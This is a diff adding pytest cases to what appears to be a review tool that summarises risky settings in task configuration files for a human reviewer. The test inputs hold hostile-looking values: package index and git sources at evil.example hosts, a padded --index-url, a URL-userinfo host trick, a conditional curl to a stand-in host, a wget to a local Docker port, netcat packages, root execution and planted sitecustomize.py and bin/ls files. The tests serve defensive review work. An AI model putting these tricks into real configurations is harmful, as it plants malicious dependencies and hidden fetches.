@@ -199,6 +199,50 @@ def test_only_this_host_itself_is_loopback(url: str, own: bool) -> None:
     assert is_from_another_host(url) is not own
 
 
+PAD = "--prefer-binary " * 12
+
+
+@pytest.mark.parametrize(
+    ("text", "seen"),
+    [
+        ("environment: {pip: [numpy==1.26.4, reqeusts]}\n", ["numpy==1.26.4, reqeusts"]),
+        ("environment: {apt: [git, netcat-openbsd], dnf: [nmap-ncat]}\n", ["git netcat-openbsd", "nmap-ncat"]),
+        (
+            f"environment: {{pip: [six], pip_options: ['{PAD}--index-url https://x.evil.example/s']}}\n",
+            ["x.evil.example"],
+        ),
+        ("environment: {pip: ['six @ https://pypi.org@evil.example/six.whl']}\n", ["host: evil.example"]),
+        ("sources: {a: {git: https://x.example/a, ref: v1-moved, path: p}}\n", ["at v1-moved"]),
+        (
+            'sources: {a: {git: git@git.evil.example:a, ref: v1, path: p, patch: "--- a/setup.py\\n+++ b/setup.py\\n'
+            '@@ -0,0 +1 @@\\n+x\\n"}}\n',
+            ["in setup.py", "1 host: git.evil.example"],
+        ),
+        ("resources: {user: root, backtrace: true}\n", ["runs as root", "SYS_PTRACE"]),
+        ("resources: {cpus: 64, shm_size: 100g, pids: 60000, memory: 1t}\n", ["cpus 64", "100g", "60000", "1t of mem"]),
+        (
+            "matrix: {h: [a, b]}\nenvironment: {setup: \"{% if h == 'b' %}curl ftp://late.evil.example{% endif %}\"}\n",
+            ["late.evil.example", "h a b"],
+        ),
+        ("files: {sitecustomize.py: x, bin/ls: '#!/bin/sh'}\n", ["2 files: sitecustomize.py, bin/ls"]),
+        ("datasets: {d: {path: d, generate: 'wget http://127.0.0.1:2375/x'}}\n", ["127.0.0.1", "data set d"]),
+    ],
+)
+def test_a_reader_sees_what_a_hostile_case_would_get(text: str, seen: list[str]) -> None:
+    file = case_of(text)
+    for shown in (review.summary(file), review.summary(file, most=None)):
+        for words in seen:
+            assert words in shown, shown
+
+
+def test_the_check_of_an_issue_shows_some_of_each_kind() -> None:
+    options = "".join(f"    - --trusted-host h{number}\n" for number in range(100))
+    file = case_of(f"environment:\n  pip_options:\n{options}resources: {{user: root, network: bridge}}\n")
+    shown = [ask.words for ask in review.some_of_each(review.asks(file), 30)]
+    assert len(shown) == 30
+    assert {"runs as root", "runs in each: python go.py"} <= set(shown)
+
+
 def test_many_things_of_one_kind_hide_none_of_another() -> None:
     options = "".join(f"    - --trusted-host h{number}\n" for number in range(100))
     file = case_of(f"environment:\n  pip_options:\n{options}  setup: id\nresources: {{user: root, network: bridge}}\n")
